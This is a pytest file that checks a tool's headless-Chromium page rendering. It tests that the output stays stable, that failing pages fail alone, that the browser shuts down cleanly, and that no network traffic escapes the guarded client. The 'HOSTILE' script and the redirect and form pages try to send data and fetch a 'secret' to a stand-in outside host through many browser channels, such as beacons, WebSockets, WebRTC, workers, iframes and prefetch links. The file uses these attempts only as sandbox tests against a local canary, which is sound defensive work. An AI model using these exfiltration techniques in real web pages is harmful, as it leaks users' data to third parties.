"""Pages in a real browser, on servers of our own: what they show, and that nothing leaves but through the client."""

from __future__ import annotations

import asyncio
import contextlib
import importlib.util
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import closing
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from runner import fetch
from runner.errors import StepError
from runner.fetching import Got, Item, Unfetched
from runner.net.client import Client
from runner.net.watched import Limits
from runner.registry import plugins
from runner.rendering import chromium, rendered, visit
from runner.settings import Settings, load

WEB = plugins("source")["web"]
QUICK = Limits(attempts=2, first_wait=0.01, longest_wait=0.05, jitter=0.01, linger=0.1)


def _browser() -> str:
    """Why there is no browser, "" if there is one."""
    if importlib.util.find_spec("playwright") is None:
        return "playwright is not installed"
    if any(map(shutil.which, chromium.NAMES)):
        return ""
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        try:
            chromium.found(p.chromium.executable_path)
        except LookupError as e:
            return f"no Chromium: {e}"
    return ""


WITHOUT = _browser()
browser = pytest.mark.skipif(bool(WITHOUT), reason=WITHOUT or "there is a browser")


class Server(ThreadingHTTPServer):
    """Answers with what `pages` holds under a path: (media type, body), a number for an error, None for never."""

    daemon_threads = True

    def __init__(self, host: str = "127.0.0.1") -> None:
        self.pages: dict[str, tuple[str, str] | int | None] = {}
        self.hits: list[str] = []
        self.ended = threading.Event()
        super().__init__((host, 0), Handler)

    @property
    def place(self) -> str:
        return f"{self.server_address[0]!s}:{self.server_address[1]}"

    def handle_error(self, request: Any, client_address: Any) -> None:
        """A client may hang up."""


class Handler(BaseHTTPRequestHandler):
    server: Server

    def do_GET(self) -> None:
        self.server.hits.append(self.path)
        found = self.server.pages.get(self.path, 404)
        if found is None:
            self.server.ended.wait()
            return
        kind, body = ("text/plain", "") if isinstance(found, int) else found
        self.send_response(found if isinstance(found, int) else 200)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body.encode())))
        self.end_headers()
        self.wfile.write(body.encode())

    def log_message(self, *_: Any) -> None:
        """Not in the tests' output."""


@contextlib.contextmanager
def serving(host: str = "127.0.0.1") -> Iterator[Server]:
    with Server(host) as server:
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02})
        thread.start()
        try:
            yield server
        finally:
            server.ended.set()
            server.shutdown()
            thread.join()


@pytest.fixture
def site() -> Iterator[Server]:
    with serving() as server:
        yield server


def settings(*places: str) -> Settings:
    values = {"MIREPOIX_ALLOW": ",".join(places), "MIREPOIX_PACE": "1000", "MIREPOIX_SETTINGS": os.devnull}
    return load(values)


class Net(fetch.Net):
    """The guarded client behind a source's `fetch`, without a plan around it."""

    def __init__(self, client: Client, settings: Settings) -> None:
        self.name, self.seed, self._client, self._settings = "press", 1, client, settings

    def progress(self, done: int, of: int, what: str) -> None:
        assert not of or done <= of


@contextlib.contextmanager
def net(folder: Path, *places: str) -> Iterator[Net]:
    with Client(settings(*places), folder) as client:
        yield Net(client, settings(*places))


def items(folder: Path, places: list[str], *urls: str) -> list[Item]:
    with net(folder, *places) as n:
        assert WEB.fetch is not None
        return list(WEB.fetch(n, **WEB.bind_fetch({"urls": list(urls), "render": True})))


def shown(folder: Path, site: Server, path: str = "/") -> str:
    (item,) = items(folder, [site.place], f"http://{site.place}{path}")
    assert not item.error, item.error
    with net(folder) as n:
        return n.path(item.sha256).read_text(encoding="utf-8")


def page(script: str, body: str = "<div id=root></div>") -> tuple[str, str]:
    return (
        "text/html; charset=utf-8",
        f"<!doctype html><title>App</title><body>{body}<script>{script}</script>",
    )


APP = """
addEventListener('load', async () => {
  const raft = await (await fetch('/raft.json')).json();
  const root = document.getElementById('root');
  root.innerHTML = '<p>' + raft.text + '</p>';
  const blob = URL.createObjectURL(new Blob(["postMessage('worked')"]));
  new Worker(blob).onmessage = async (said) => root.dataset.worker = said.data + (await (await fetch(blob)).text()).length
    + await (await fetch('data:,x')).text();
  setTimeout(async () => {
    const { late } = await import('/late.js');
    root.innerHTML += '<p>' + late + ' ' + getComputedStyle(root).color + '</p>';
    root.innerHTML += [Date.now(), Math.random(), crypto.getRandomValues(new Uint8Array(4)), performance.now()];
  }, 5000);
});
"""


@browser
def test_what_scripts_show_is_kept_the_same_each_time(site: Server, tmp_path: Path) -> None:
    site.pages = {
        "/": (
            "text/html",
            '<link rel=stylesheet href=/a.css><script src=/app.js></script><div id=root></div><img src="/x.png">'
            "<noscript>You need to enable JavaScript</noscript>",
        ),
        "/app.js": ("text/javascript", APP),
        "/raft.json": ("application/json", json.dumps({"text": "The raft went on, “said” Jim."})),
        "/late.js": ("text/javascript", "export const late = 'And on.'"),
        "/a.css": ("text/css", "#root { color: rgb(1, 2, 3) }"),
    }
    first = shown(tmp_path / "a", site)
    assert "<p>The raft went on, “said” Jim.</p><p>And on. rgb(1, 2, 3)</p>" in first
    assert 'data-worker="worked21x"' in first
    assert "noscript" not in first
    asked = sorted(site.hits)
    assert asked == ["/", "/a.css", "/app.js", "/late.js", "/raft.json", "/robots.txt"]
    assert shown(tmp_path / "a", site) == first and sorted(site.hits) == asked
    assert shown(tmp_path / "b", site) == first and len(site.hits) == 2 * len(asked)

    async def cell() -> str:  # a notebook's is run by a loop
        return shown(tmp_path / "c", site)

    assert asyncio.run(cell()) == first and len(site.hits) == 3 * len(asked)
    assert not [t for t in threading.enumerate() if t.name == "browser"]


HOSTILE = """
const away = 'http://AWAY', tell = (what) => document.getElementById('root').innerHTML += '<p>' + what + '</p>';
fetch(away + '/fetch').then(() => tell('reached'), () => tell('fetch refused'));
fetch(away + '/post', {method: 'POST', body: 'x', mode: 'no-cors'}).catch(() => 0);
fetch('/to-away').then(() => tell('reached'), () => tell('redirect refused'));
fetch('http://NAMED/secret').then(() => tell('reached'), () => tell('named refused'));
const xhr = new XMLHttpRequest(); xhr.open('GET', away + '/xhr'); xhr.send();
new Image().src = away + '/img';
navigator.sendBeacon(away + '/beacon', 'x');
for (const make of [
  () => new WebSocket('ws://AWAY/socket'), () => new EventSource(away + '/events'), () => window.open(away + '/open'),
  () => new RTCPeerConnection({iceServers: [{urls: 'stun:AWAY'}]}).createDataChannel('x'),
  () => new Worker(URL.createObjectURL(new Blob([
    `fetch('${away}/worker').catch(() => 0); importScripts('${away}/import'); new WebSocket('ws://AWAY/inner')`]))),
  () => new SharedWorker(URL.createObjectURL(new Blob([`fetch('${away}/shared')`]))),
  () => navigator.serviceWorker.register('/worker.js'),
]) try { make() } catch (e) { tell(e.name) }
for (const [tag, attributes] of [
  ['iframe', {src: away + '/frame'}], ['object', {data: away + '/object'}], ['embed', {src: away + '/embed'}],
  ['link', {rel: 'preconnect', href: away}], ['link', {rel: 'dns-prefetch', href: away}],
  ['link', {rel: 'prefetch', href: away + '/prefetch'}], ['link', {rel: 'preload', as: 'font', href: away + '/font'}],
  ['link', {rel: 'icon', href: away + '/icon'}], ['link', {rel: 'manifest', href: away + '/manifest'}],
  ['link', {rel: 'stylesheet', href: away + '/style'}], ['script', {src: away + '/script'}],
  ['video', {src: away + '/video', autoplay: ''}], ['track', {src: away + '/track'}],
]) {
  const element = document.createElement(tag);
  for (const name in attributes) element.setAttribute(name, attributes[name]);
  document.body.append(element);
}
const rules = document.createElement('script');
rules.type = 'speculationrules';
rules.textContent = JSON.stringify({prerender: [{urls: [away + '/prerender'], eagerness: 'immediate'}]});
document.body.append(rules);
const frame = document.createElement('iframe');
frame.srcdoc = `<script>fetch('${away}/inner'); new WebSocket('ws://AWAY/inner'); new RTCPeerConnection()</` + 'script>';
document.body.append(frame);
tell('done');
"""


@contextlib.contextmanager
def canary() -> Iterator[tuple[str, Callable[[], int]]]:
    """A place that listens, for TCP and UDP, and how many have come there."""
    with socket.socket() as tcp, socket.socket(type=socket.SOCK_DGRAM) as udp:
        tcp.bind(("127.0.0.2", 0))
        tcp.listen()
        udp.bind(tcp.getsockname())

        def came() -> int:
            count = 0
            for one in (tcp, udp):
                one.setblocking(False)
                with contextlib.suppress(BlockingIOError):
                    one.accept() if one is tcp else one.recv(1)
                    count += 1
            return count

        yield f"127.0.0.2:{tcp.getsockname()[1]}", came


@browser
def test_nothing_leaves_but_through_the_client(site: Server, tmp_path: Path) -> None:
    with canary() as (away, came), serving() as named:
        named.pages["/secret"] = ("text/plain", "the secret")
        script = HOSTILE.replace("AWAY", away).replace("NAMED", named.place)
        site.pages = {
            "/": page(script),
            "/refresh": page("", f'<meta http-equiv=refresh content="0; url=http://{away}/">'),
            "/moves": page(f"location.href = 'http://{away}/moves'"),
            "/form": page(
                "document.forms[0].submit()", f"<form method=post action='http://{away}/form'></form>"
            ),
            "/last": page("document.body.append('I am the last.')"),
        }
        urls = [f"http://{site.place}{path}" for path in site.pages]
        first, refresh, moves, form, last = items(tmp_path, [site.place, named.place], *urls)
        assert came() == 0 and not named.hits
        assert [i.error for i in (first, last)] == ["", ""]
        for item in (refresh, moves, form):
            assert f"it moves on to http://{away}/" in item.error
        with net(tmp_path) as n:
            text = n.path(first.sha256).read_text()
        assert "<p>done</p>" in text and "<p>reached</p>" not in text
        for what in ("fetch", "redirect", "named"):
            assert f"<p>{what} refused</p>" in text
        with closing(socket.create_connection(away.split(":"))):  # it would have been seen
            assert came() == 1


@browser
def test_even_without_interception_nothing_gets_out(tmp_path: Path) -> None:
    from playwright.async_api import Error

    async def attempts(away: str) -> None:
        one = chromium.Chromium()
        await one.start()
        try:
            context = await one.browser.new_context()
            there = await context.new_page()
            for url in (f"http://{away}/", "http://localhost/", "http://127.0.0.2/"):
                with pytest.raises(Error, match="net::ERR_"):
                    await there.goto(url)
            there = await context.new_page()  # that one is still on its way to the page that tells the error
            await there.evaluate(
                """async (away) => {
                  const made = new RTCPeerConnection({iceServers: [{urls: 'stun:' + away}]});
                  made.createDataChannel('x');
                  await made.setLocalDescription(await made.createOffer());
                  const socket = new WebSocket('ws://' + away);
                  await new Promise((done) => socket.onerror = done);
                  await new Promise((done) => made.iceGatheringState === 'complete' ? done()
                    : made.onicegatheringstatechange = () => made.iceGatheringState === 'complete' && done());
                }""",
                away,
            )
        finally:
            await one.end()

    with canary() as (away, came):
        asyncio.run(attempts(away))
        assert came() == 0


@browser
def test_a_page_that_fails_fails_alone(site: Server, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(visit, "OWN_TIME", 3.0)
    monkeypatch.setattr(visit, "MOST_PARTS", 20)
    grow = "document.body.dataset.much = 'x'.repeat(9000000)"
    site.pages = {
        "/endless": page("while (true) {}"),
        "/fetching": page(
            "(async () => { for (let n = 0;; n++) await fetch('/raft?' + n).catch(() => 0) })()"
        ),
        "/large": page(grow),
        "/broken": page("fetch('/down.json').catch(() => 0)"),
        "/down.json": 500,
        "/clobbered": page(
            "", "<img name=documentElement><img name=querySelectorAll><noscript>No.</noscript>"
        ),
        "/absent": page("fetch('/none.json').catch(() => document.body.append('None there.'))"),
        "/odd": page("", "<script src=/empty.js></script><link rel=stylesheet href=/down.css>"),
        "/empty.js": ("text/javascript", ""),
        "/down.css": 500,
        "/fine": page("document.body.append('All is fine.')"),
    }
    paths = [p for p in site.pages if "." not in p]
    places, urls = [site.place], [f"http://{site.place}{path}" for path in paths]
    monkeypatch.setattr("runner.net.client.Limits", lambda: QUICK)
    said = {i.key.rpartition("/")[2]: i.error for i in items(tmp_path, places, *urls)}
    assert said == {
        "endless": "its scripts take more than 3 s",
        "fetching": "its scripts ask for more than 20 parts",
        "large": "what it shows has more than 8,388,608 characters",
        "broken": f"a part of it, http://{site.place}/down.json: HTTP 500 Internal Server Error",
        "clobbered": "",
        "absent": "",
        "odd": "",
        "fine": "",
    }


@browser
def test_what_is_no_page_is_handed_on(site: Server, tmp_path: Path) -> None:
    site.pages = {"/a.txt": ("text/plain", "plain"), "/b.pdf": ("text/html", "%PDF-1.7 ...")}
    with net(tmp_path, site.place) as n:
        for path, (_, body) in site.pages.items():  # type: ignore[misc]
            url = f"http://{site.place}{path}"
            ((_, got),) = rendered(n, n.get_all([url]))
            assert isinstance(got, Got) and got.bytes() == body.encode()
        gone = Unfetched("404 Not Found")
        assert list(rendered(n, [("http://a.example/", gone)])) == [("http://a.example/", gone)]


def descendants(of: int) -> set[int]:
    """All processes below one that are Chromium's, by what the kernel says."""
    parents: dict[int, int] = {}
    for stat in Path("/proc").glob("[0-9]*/stat"):
        with contextlib.suppress(OSError):
            pid, _, rest = stat.read_text().partition(" (")
            parents[int(pid)] = int(rest.rpartition(") ")[2].split()[1])
    found, more = {of}, {of}
    while more := {pid for pid, parent in parents.items() if parent in more}:
        found |= more
    return found - {of}


def alive(pid: int) -> bool:
    with contextlib.suppress(OSError):
        return Path(f"/proc/{pid}/stat").read_text().rpartition(") ")[2][0] != "Z"
    return False


def all_end(pids: set[int]) -> bool:
    until = time.monotonic() + 20
    while any(map(alive, pids)) and time.monotonic() < until:
        time.sleep(0.05)
    return not any(map(alive, pids))


proc = pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="needs /proc")


@browser
@proc
def test_closing_early_ends_the_browser(site: Server, tmp_path: Path) -> None:
    site.pages = {f"/{n}": page(f"document.body.append({n})") for n in range(3)}
    before = descendants(os.getpid())
    homes = set(Path(chromium.tempfile.gettempdir()).glob("mirepoix-browser-*"))
    with net(tmp_path, site.place) as n:
        assert WEB.fetch is not None
        urls = [f"http://{site.place}{path}" for path in site.pages]
        found = WEB.fetch(n, **WEB.bind_fetch({"urls": urls, "render": True}))
        assert not next(found).error
        started = descendants(os.getpid()) - before
        assert len(started) > 3
        found.close()
        assert all_end(started)
    assert set(Path(chromium.tempfile.gettempdir()).glob("mirepoix-browser-*")) == homes


CHILD = """
import sys
from pathlib import Path
import importlib.util
spec = importlib.util.spec_from_file_location("t", sys.argv[1])
t = importlib.util.module_from_spec(spec)
sys.modules["t"] = t
spec.loader.exec_module(t)
print(t.items(Path(sys.argv[2]), [sys.argv[3]], "http://" + sys.argv[3] + "/"))
"""


@browser
@proc
@pytest.mark.parametrize("sign", [signal.SIGKILL, signal.SIGINT, signal.SIGTERM])
def test_a_killed_run_leaves_no_browser(site: Server, tmp_path: Path, sign: signal.Signals) -> None:
    site.pages = {"/": page("fetch('/never')"), "/never": None}
    command = [sys.executable, "-c", CHILD, __file__, str(tmp_path), site.place]
    with subprocess.Popen(command, stderr=subprocess.DEVNULL, start_new_session=True) as child:
        try:
            until = time.monotonic() + 60
            while "/never" not in site.hits and time.monotonic() < until and child.poll() is None:
                time.sleep(0.05)
            assert "/never" in site.hits
            started = descendants(child.pid)
            assert len(started) > 3
            if sign == signal.SIGINT:
                os.killpg(child.pid, sign)  # as a terminal does
            else:
                child.send_signal(sign)
            site.ended.set()
            assert all_end(started)
        finally:
            child.kill()


def test_a_missing_playwright_is_named(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setitem(sys.modules, "playwright", None)
    monkeypatch.setitem(sys.modules, "playwright.async_api", None)
    with (
        net(tmp_path) as n,
        pytest.raises(StepError, match=r"pip install -e '\.\[browser\]'.*[Cc]hromium"),
    ):
        next(rendered(n, []), None)


@browser
def test_a_missing_chromium_is_named(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setattr(chromium, "NAMES", ("no-such-chromium",))
    monkeypatch.setenv("PLAYWRIGHT_BROWSERS_PATH", str(tmp_path / "none"))
    with (
        net(tmp_path / "raw") as n,
        pytest.raises(StepError, match=r"press: render needs Playwright and a Chromium"),
    ):
        next(rendered(n, []), None)
    false = shutil.which("false")
    assert false is not None
    monkeypatch.setattr(chromium, "found", lambda _: false)
    with net(tmp_path / "raw") as n, pytest.raises(StepError, match="press: the browser does not start: "):
        next(rendered(n, []), None)


def test_a_page_without_scripts_needs_no_browser(monkeypatch: pytest.MonkeyPatch) -> None:
    code = "import sys; from runner.registry import plugins; plugins('source'); print('playwright' in sys.modules, 'runner.rendering' in sys.modules)"
    said = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert said.stdout.split() == ["False", "False"]


def test_what_settings_open_is_off_limits(tmp_path: Path) -> None:
    own = load(
        {
            "MIREPOIX_ALLOW": "127.0.0.1:8765, [::1]:80,Bücher.example:8080",
            "MIREPOIX_TEACHER_URL": "https://box.example/v1",
            "MIREPOIX_SETTINGS": os.devnull,
        }
    )
    with Client(settings(), tmp_path) as client:
        assert visit.off_limits(Net(client, own)) == {
            ("127.0.0.1", 8765),
            ("::1", 80),
            ("xn--bcher-kva.example", 8080),
            ("box.example", 443),
        }
